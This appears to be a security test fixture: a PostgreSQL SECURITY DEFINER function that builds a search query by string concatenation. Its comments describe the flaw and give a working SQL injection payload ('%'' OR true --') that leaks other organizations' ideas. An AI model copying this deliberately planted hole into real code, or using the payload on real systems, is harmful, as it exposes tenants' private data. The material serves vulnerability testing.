-- The text of the search is pasted into the statement, so a quote in it opens the ideas of all organizations.
-- about: search_ideas, ideas
-- as: hf_wishlist_app
-- exploit: SET request.jwt.claims = '{"sub":"a1000000-0000-4000-8000-000000000001"}';
-- exploit: SELECT search_ideas(1, '%'' OR true --');
-- shows: Road-secret idea
-- Search on the portal; the membership is checked once and not for each row.
CREATE FUNCTION search_ideas(p_org int, q text) RETURNS SETOF text LANGUAGE plpgsql STABLE SECURITY DEFINER
SET search_path = public, pg_temp AS $$
BEGIN
  IF NOT is_member(p_org) THEN RAISE EXCEPTION 'not a member'; END IF;
  RETURN QUERY EXECUTE
    'SELECT title FROM ideas WHERE org_id = ' || p_org || ' AND title ILIKE ''%' || q || '%''';
END $$;
